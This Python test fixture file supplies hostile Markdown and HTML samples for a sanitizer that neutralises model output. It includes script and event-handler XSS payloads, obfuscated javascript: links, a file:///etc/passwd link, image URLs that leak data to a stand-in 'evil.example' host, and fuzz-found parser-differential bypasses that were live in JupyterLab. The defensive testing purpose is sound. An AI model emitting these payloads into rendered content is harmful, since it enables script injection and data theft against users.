"""Sample model output for the sanitizer tests: hostile cases, a benign answer, random lines.

Each hostile case pairs the model's text with what must still be visible once it is
neutralised and rendered: the neutraliser shows hostile markup as text, it does not drop it.
"""

from __future__ import annotations

import random

import pytest

# (model output, text that must still be visible after rendering)
HOSTILE_HTML = [
    # raw HTML, inline and block
    pytest.param("Hi <script>alert(1)</script>!", "<script>alert(1)</script>", id="script-inline"),
    pytest.param("<script>\nalert(1)\n</script>\n\nafter", "alert(1)", id="script-block"),
    pytest.param("<SCRIPT>alert(1)</SCRIPT>", "<SCRIPT>", id="script-upper"),
    pytest.param("text <script\n  src=//evil.example/x.js></script>", "<script", id="script-split"),
    pytest.param("<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>", id="img-onerror"),
    pytest.param("an <svg onload=alert(1)> icon", "<svg onload=alert(1)>", id="svg-onload"),
    pytest.param('<iframe srcdoc="<script>alert(1)</script>"></iframe>', "<iframe", id="iframe"),
    pytest.param("<style>body{display:none}</style>", "<style>", id="style"),
    pytest.param('<a href="javascript:alert(1)">click</a>', '<a href="javascript', id="a-html"),
    pytest.param("<details open ontoggle=alert(1)>x</details>", "ontoggle", id="details"),
    pytest.param("<!-- <script>alert(1)</script> -->", "<!--", id="comment"),
    pytest.param("<object data=x.swf></object> <embed src=x>", "<embed src=x>", id="object"),
    pytest.param('<form action="https://evil.example"><input></form>', "<form", id="form"),
    pytest.param('<meta http-equiv="refresh" content="0;url=https://evil">', "<meta", id="meta"),
    pytest.param('<link rel=stylesheet href=//evil.example/x.css>', "<link", id="link-tag"),
    pytest.param("<base href=https://evil.example/>", "<base", id="base"),
    pytest.param("<![CDATA[<script>alert(1)</script>]]>", "CDATA", id="cdata"),
    pytest.param("<?xml-stylesheet href=x?>", "<?xml", id="processing-instruction"),
    pytest.param("<!DOCTYPE html>", "<!DOCTYPE", id="declaration"),
    # raw HTML inside containers
    pytest.param("- item <img src=x onerror=alert(1)>\n- two", "onerror", id="in-list"),
    pytest.param("> quoted <script>alert(1)</script>", "<script>", id="in-quote"),
    pytest.param("| a | b |\n|---|---|\n| <img src=x onerror=1> | 2 |", "<img", id="in-table"),
    pytest.param("# Title <svg onload=alert(1)>", "<svg", id="in-heading"),
    pytest.param("- a\n\n  > <div onclick=alert(1)>\n  > x\n", "<div", id="block-in-quote-in-list"),
    # tags only marked's looser grammar sees (markdown-it reads text)
    pytest.param("<a_b onfocus=alert(1) autofocus tabindex=1>", "onfocus", id="marked-tag-name"),
    pytest.param("see </x:y onclick=alert(1)>", "onclick", id="marked-closing-tag"),
]  # fmt: skip

HOSTILE_LINKS = [
    # links with unsafe targets, in every syntax
    pytest.param("[click](javascript:alert(1))", "[click](javascript:alert(1))", id="inline"),
    pytest.param('[x](javascript:alert(1) "title")', "javascript:alert(1)", id="with-title"),
    pytest.param("[x](<javascript:alert(1)>)", "javascript:alert(1)", id="angle-destination"),
    pytest.param("[x](vbscript:msgbox(1))", "vbscript:", id="vbscript"),
    pytest.param("[x](data:text/html;base64,PHNjcmlwdD4=)", "data:text/html", id="data-html"),
    pytest.param("[x](file:///etc/passwd)", "file:///etc/passwd", id="file"),
    pytest.param("[x][r]\n\n[r]: javascript:alert(1)", "[x]", id="reference-full"),
    pytest.param("[r][]\n\n[r]: javascript:alert(1)", "[r]", id="reference-collapsed"),
    pytest.param("[r]\n\n[r]: javascript:alert(1)", "javascript:alert(1)", id="reference-shortcut"),
    pytest.param("<javascript:alert(1)>", "<javascript:alert(1)>", id="autolink"),
    pytest.param("[x](JaVaScRiPt:alert(1))", "JaVaScRiPt", id="case"),
    pytest.param("[x](  javascript:alert(1))", "javascript", id="leading-space"),
    pytest.param("[x](&#106;avascript:alert(1))", "avascript", id="entity-decimal"),
    pytest.param("[x](&#x6A;avascript&colon;alert(1))", "avascript", id="entity-named"),
    pytest.param("[x](javascript%3Aalert(1))", "javascript%3Aalert(1)", id="percent"),
    pytest.param("[x](<java\tscript:alert(1)>)", "script:alert(1)", id="tab-in-scheme"),
    pytest.param("[x](<\x01javascript:alert(1)>)", "javascript", id="control-char"),
    pytest.param("[x](java\u200bscript:alert(1))", "script:alert(1)", id="zero-width"),
    pytest.param("[a [b](javascript:x)](javascript:y)", "javascript:", id="nested"),
    # images that the browser would fetch by itself
    pytest.param("![chart](https://evil.example/leak?d=secret)", "image: chart", id="remote-image"),
    pytest.param("![c][i]\n\n[i]: https://evil.example/x.png", "image: c", id="reference-image"),
    pytest.param("![c](//evil.example/x.png)", "image: c", id="protocol-relative"),
    pytest.param("![c](local/x.png)", "local/x.png", id="relative-image"),
    pytest.param("![x](javascript:alert(1))", "javascript:alert(1)", id="javascript-image"),
    pytest.param("![x](data:image/svg+xml;base64,PHN2Zz4=)", "image: x", id="svg-data"),
    pytest.param("[![logo](https://evil.example/l.png)](https://ok)", "image: logo", id="in-link"),
    pytest.param("!![x](https://evil.example/x.png)", "!", id="bang-before-image"),
    pytest.param(
        "![<img src=x onerror=alert(1)> *em*](https://evil.example/x.png)",
        "<img src=x onerror=alert(1)>",
        id="alt-with-markup",
    ),
]  # fmt: skip

HOSTILE = HOSTILE_HTML + HOSTILE_LINKS

# markdown-it reads these two as text; only looser parsers (marked) see tags in them, so they
# are neutralised (above) but not reported by the markdown-it based verifier.
LOOSE_PARSER_ONLY = ("_b onfocus", "x:y onclick")

BENIGN_ANSWER = """\
## Sorting in Python

Use `sorted()` for a new list, or `list.sort()` in place. Both are *stable* and **fast**;
`<b>` in inline code stays code, and so do comparisons like x < y, p < 0.05, x<5, a -> b, c => d.

1. Read the [docs](https://docs.python.org/3/howto/sorting.html "Sorting HOW TO").
2. Mail <team@example.org>, see <https://example.org/faq>, [a section](#setup), [a file](a.md).
   - nested item with ~~old~~ text

| method      | returns | in place |
|:------------|:-------:|---------:|
| `sorted(x)` | list    | no       |
| `x.sort()`  | None    | yes      |

```python
def top(items, n=3):
    html = "<div>" + str(items) + "</div>"
    return sorted(items, reverse=True)[:n] if n > 0 and x < y else []
```

> The cost is $O(n \\log n)$ and $a<b$ holds; display math too:

$$
\\sum_{i=1}^{n} i = \\frac{n(n+1)}{2}
$$

![inline dot](data:image/png;base64,iVBORw0KGgo=)

[ref]: https://example.org/ref
"""


FRAGMENTS = [
    "text", "<b>", "</b>", "<img src=x onerror=alert(1)>", "<script>", "<!--", "-->", "`", "```",
    "~~~", "$", "$$", "[", "]", "(", ")", "![", "](", "javascript:alert(1)", "https://e.org/x.png",
    "<javascript:x>", "<https://e.org>", "\\", "*", "_", "> ", "- ", "1. ", "|", "|---|", "#",
    "&#106;", "&lt;", "    ", "\t", "[r]: ", "[r]", "\"", "'", "<a_b onfocus=x>", "@@0@@", "{", "}",
    "\\\\(", "\\\\)", "\\begin{x}", "\\end{x}",
]  # fmt: skip
SEPARATORS = ["", "", " ", "\n", "\n\n", "\n  ", "\n> "]
LINE_STARTS = ["", "", "> ", "- ", "  ", "    ", "1. ", "2) ", "\t", "> > ", "   - ", "*", " "]


def random_line(rng: random.Random) -> str:
    """A line of Markdown structure and hostile fragments, for the random tests."""
    words = (rng.choice(FRAGMENTS) + rng.choice(["", " "]) for _ in range(rng.randint(0, 6)))
    return rng.choice(LINE_STARTS) + "".join(words)


# Found by the fuzz tests (test_sanitize_fuzz.py), shrunk: each was live in JupyterLab after
# the neutraliser of the time (most are live as written, some only once neutralised).
FOUND_BY_FUZZING = [
    # JupyterLab writes a highlighted fence's info string unescaped into class="language-..."
    pytest.param('```x" tabindex=0 onfocus="alert(1)\ncode\n```', id="info-string-quote"),
    pytest.param('- ```x"onmouseover="alert(1)\n  code\n  ```', id="info-string-in-list"),
    pytest.param('>\t  ~~~" onmouseover="alert(1)', id="info-string-in-indented-code"),
    pytest.param('>+ >\t ~~~" onmouseover="alert(1)', id="info-string-in-nested-containers"),
    pytest.param('+ /\n  2) ~~~" onmouseover="alert(1)', id="info-string-in-lazy-line"),
    # marked links bare ftp:// URLs, in what markdown-it takes for code too
    pytest.param("see ftp://e.example/a", id="bare-ftp"),
    pytest.param(">\t  ftp://e.example", id="bare-ftp-in-code"),
    # a data image in disguise is a relative URL to the browser, which fetches it
    pytest.param("![x](\u200bdata:image/png;base64,iVBORw0KGgo=)", id="data-image-zero-width"),
    pytest.param("![x](<\xa0data:image/png;base64,iVBORw0KGgo=>)", id="data-image-nbsp"),
    pytest.param("![x](< data:image/png;base64,iVBORw0KGgo=>)", id="data-image-space"),
    # marked unescapes the target of a link markdown-it does not see (no links in links)
    pytest.param("[[]()](javascript\\:alert(1))", id="escaped-colon-in-stray-target"),
    # JavaScript's blanks (a byte order mark) before a target that markdown-it reads as text
    pytest.param("[x](\ufeff javascript:alert(1))", id="bom-before-target"),
    # a lazy delimiter row makes a table in marked, splitting a code span into cells
    pytest.param("- |`|<img src=x onerror=alert(1)>|`\n-|-|-", id="lazy-table-row"),
    # marked's bare URL swallows an image's `![`; its `<data:...>` target becomes an autolink
    pytest.param("http://e![ ](<data:image/png;base64,>)", id="url-swallows-image"),
    # restored math ends the title attribute of a link only marked sees
    pytest.param('[[$y$]()](g "$" onmouseover="alert(1)$")', id="math-in-stray-title"),
    # marked reads no link in `[[[x]]](...)`: the `<...>` target shows as text, a tag
    pytest.param("[[[x]]](<img src=x onerror=alert(1)>)", id="angle-target-as-text"),
    # marked unescapes `\[` and `\]` in a link's text before reading it
    pytest.param("[[\\](javascript:x(])]()", id="escaped-bracket-in-link-text"),
    pytest.param("[!\\[x\\](https://evil.example/x.png)](https://ok)", id="image-in-link-text"),
    pytest.param(
        "[![x](https://evil/x.png)(javascript:alert(1))](https://ok)", id="stand-in-in-link-text"
    ),
    # code spans holding backticks: marked's link label runs from a `[` before them into them
    pytest.param(
        "| [`a ```b `` | <!-- x -->$[`c`](http://e.example) $<!-- x -->`d ` |\n|---|",
        id="link-label-over-code-spans",
    ),
    # marked's link ends inside what markdown-it takes for a code span
    pytest.param("[](````()<img src=x onerror=alert(1)>````", id="link-target-into-code"),
    # an escaped backtick leaves a run of one: a code span renumbered to one pairs with it
    pytest.param("> * \t\\``\n``<img src=x onerror=alert(1)>``", id="escaped-backtick-run"),
    # marked ends a list item at a lazy line opening HTML or a heading: later items read as text
    pytest.param("0. e\n<http:>\n0. ```\n   <img src=x onerror=alert(1)>", id="lazy-autolink"),
    pytest.param("0. e\n#b\n0. ```\n   <img src=x onerror=alert(1)>", id="lazy-hash"),
    # marked's ~strike~ from before a code span into a later one, holding backticks
    pytest.param("~a`<b>` ``<img src=x onerror=alert(1)>`~``", id="strike-over-code-spans"),
    # a list item of only a definition: markdown-it ends it, marked goes on with a new item
    pytest.param('1. [0]:>\nr\n2) ~~~~`" onmouseover="alert(1)`', id="item-after-definition"),
    # math in what marked takes for the title of a link markdown-it does not see
    pytest.param('[](<\ufffd>a)> "$" onmouseover="alert(1)$")', id="math-in-loose-title"),
    # math joins lines: markdown-it's view has the link in code, marked's in a paragraph
    pytest.param('>\t2) ~~~\n>\t   $\n$[]($" onmouseover="alert(1)$)', id="math-in-code-link"),
    # marked reads a bare URL in the label of an image markdown-it keeps
    pytest.param("![ftp://e`[`c`](data:image/png;base64,)", id="ftp-in-image-label"),
    # the fallback's `\<` after a bare URL, which swallows the backslash in marked
    pytest.param("\xa0\nwww.e<img src=x onerror=alert(1)>", id="fallback-after-bare-url"),
    # marked reads a link in the label of an image markdown-it keeps
    pytest.param("![[[]](javascript:alert`1`//](data:image/png;base64,)", id="link-in-image-label"),
    # marked reads the lines after a table as its rows where markdown-it ends the table (a lazy
    # line of a list item, a list marked does not stop at): cells cut the code span apart
    pytest.param("- | a | b |\n  |---|---|\n`x | <?y?>`", id="lazy-line-after-table"),
    pytest.param("| a | b |\n|---|---|\n2. `x | <?y?>`", id="list-after-table"),
    pytest.param("1. | a | b |\n   |---|---|\n   2. `x | <?y?>`", id="nested-list-after-table"),
]
